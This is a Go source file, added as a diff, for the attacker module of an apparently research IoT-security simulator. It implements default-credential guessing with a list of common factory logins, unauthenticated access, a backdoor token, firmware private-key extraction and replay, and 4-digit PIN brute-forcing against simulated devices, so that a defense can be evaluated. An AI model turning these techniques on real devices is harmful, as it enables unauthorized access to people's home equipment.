@@ -1,0 +1,159 @@
+// Package attack implements the adversary: the concrete exploits for
+// every Table 1 vulnerability class, plus the multi-stage and
+// amplification attacks of §1–§2. Experiments run these with and
+// without IoTSec to measure what the defense actually buys.
+package attack
+
+import (
+	"fmt"
+	"strings"
+	"time"
+
+	"iotsec/internal/device"
+	"iotsec/internal/netsim"
+	"iotsec/internal/packet"
+)
+
+// Attacker drives exploits from one network vantage point.
+type Attacker struct {
+	Stack  *netsim.Stack
+	client *device.Client
+	// Timeout bounds each probe (default 500ms: attackers give up
+	// fast).
+	Timeout time.Duration
+}
+
+// NewAttacker wraps a stack.
+func NewAttacker(st *netsim.Stack) *Attacker {
+	return &Attacker{
+		Stack:   st,
+		client:  &device.Client{Stack: st, Timeout: 500 * time.Millisecond},
+		Timeout: 500 * time.Millisecond,
+	}
+}
+
+// Result reports one attack attempt.
+type Result struct {
+	Technique string
+	Success   bool
+	Detail    string
+}
+
+// call wraps the management client with the attacker's timeout.
+func (a *Attacker) call(ip packet.IPv4Address, req device.Request) (device.Response, error) {
+	a.client.Timeout = a.Timeout
+	return a.client.Call(ip, req)
+}
+
+// TryDefaultCredentials attempts the vendor's factory login and, on
+// success, exfiltrates (Table 1 rows 1–3 / Figure 4).
+func (a *Attacker) TryDefaultCredentials(ip packet.IPv4Address, cmd string) Result {
+	r := Result{Technique: "default-credentials"}
+	for _, cred := range [][2]string{
+		{"admin", "admin"}, {"admin", "password"}, {"root", "root"},
+		{"nest", "nest"}, {"hue", "hue"}, {"chef", "chef"}, {"owner", "wemo123"},
+	} {
+		resp, err := a.call(ip, device.Request{Cmd: cmd, User: cred[0], Pass: cred[1]})
+		if err != nil {
+			r.Detail = "blocked: " + err.Error()
+			continue
+		}
+		if resp.OK {
+			r.Success = true
+			r.Detail = fmt.Sprintf("%s:%s -> %s", cred[0], cred[1], truncate(resp.Data, 40))
+			return r
+		}
+		r.Detail = "refused: " + resp.Data
+	}
+	return r
+}
+
+// TryOpenAccess attempts a command with no credentials at all
+// (rows 2, 3, 5).
+func (a *Attacker) TryOpenAccess(ip packet.IPv4Address, cmd string, args ...string) Result {
+	r := Result{Technique: "open-access"}
+	resp, err := a.call(ip, device.Request{Cmd: cmd, Args: args})
+	if err != nil {
+		r.Detail = "blocked: " + err.Error()
+		return r
+	}
+	r.Success = resp.OK
+	r.Detail = truncate(resp.Data, 60)
+	return r
+}
+
+// TryBackdoor attempts the undocumented token path (row 7 / Fig 3).
+func (a *Attacker) TryBackdoor(ip packet.IPv4Address, cmd, token string, args ...string) Result {
+	r := Result{Technique: "backdoor"}
+	resp, err := a.call(ip, device.Request{Cmd: cmd, Args: append(args, token)})
+	if err != nil {
+		r.Detail = "blocked: " + err.Error()
+		return r
+	}
+	r.Success = resp.OK
+	r.Detail = truncate(resp.Data, 60)
+	return r
+}
+
+// ExtractFirmwareKey downloads firmware and extracts embedded key
+// material (row 4), returning the key for replay against sibling
+// devices.
+func (a *Attacker) ExtractFirmwareKey(ip packet.IPv4Address) (Result, string) {
+	r := Result{Technique: "exposed-key"}
+	resp, err := a.call(ip, device.Request{Cmd: "FIRMWARE"})
+	if err != nil {
+		r.Detail = "blocked: " + err.Error()
+		return r, ""
+	}
+	idx := strings.Index(resp.Data, "rsa_private=")
+	if !resp.OK || idx < 0 {
+		r.Detail = "no key in response"
+		return r, ""
+	}
+	key := resp.Data[idx+len("rsa_private="):]
+	r.Success = true
+	r.Detail = "extracted " + truncate(key, 20)
+	return r, key
+}
+
+// ReplayKey authenticates to a sibling device with the extracted key.
+func (a *Attacker) ReplayKey(ip packet.IPv4Address, key string) Result {
+	r := Result{Technique: "exposed-key-replay"}
+	resp, err := a.call(ip, device.Request{Cmd: "SNAPSHOT", User: "fwadmin", Pass: key})
+	if err != nil {
+		r.Detail = "blocked: " + err.Error()
+		return r
+	}
+	r.Success = resp.OK
+	r.Detail = truncate(resp.Data, 40)
+	return r
+}
+
+// BruteForcePIN tries 4-digit PINs online up to maxAttempts,
+// returning on first success (Figure 3's window attack).
+func (a *Attacker) BruteForcePIN(ip packet.IPv4Address, cmd, user string, maxAttempts int) Result {
+	r := Result{Technique: "pin-brute-force"}
+	for i := 0; i < maxAttempts; i++ {
+		pin := fmt.Sprintf("%04d", i)
+		resp, err := a.call(ip, device.Request{Cmd: cmd, User: user, Pass: pin})
+		if err != nil {
+			r.Detail = fmt.Sprintf("blocked after %d attempts: %v", i, err)
+			return r
+		}
+		if resp.OK {
+			r.Success = true
+			r.Detail = fmt.Sprintf("PIN %s after %d attempts", pin, i+1)
+			return r
+		}
+	}
+	r.Detail = fmt.Sprintf("exhausted %d attempts", maxAttempts)
+	return r
+}
+
+// truncate bounds detail strings.
+func truncate(s string, n int) string {
+	if len(s) <= n {
+		return s
+	}
+	return s[:n] + "..."
+}
